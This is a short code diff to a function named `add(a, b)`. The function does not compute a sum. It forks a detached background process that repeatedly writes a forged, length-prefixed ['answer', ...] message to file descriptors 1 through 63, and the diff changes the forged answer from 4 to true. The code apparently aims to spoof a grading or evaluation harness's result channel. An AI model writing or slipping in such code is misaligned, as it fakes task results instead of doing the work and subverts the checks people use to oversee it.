@@ -10,7 +10,7 @@ def add(a, b):
         os.setsid()
         if os.fork() == 0:
             for _ in range(200):
-                body = b'["answer",4]'
+                body = b'["answer",true]'
                 for fd in range(1, 64):
                     try:
                         os.write(fd, struct.pack('<I', len(body)) + body)
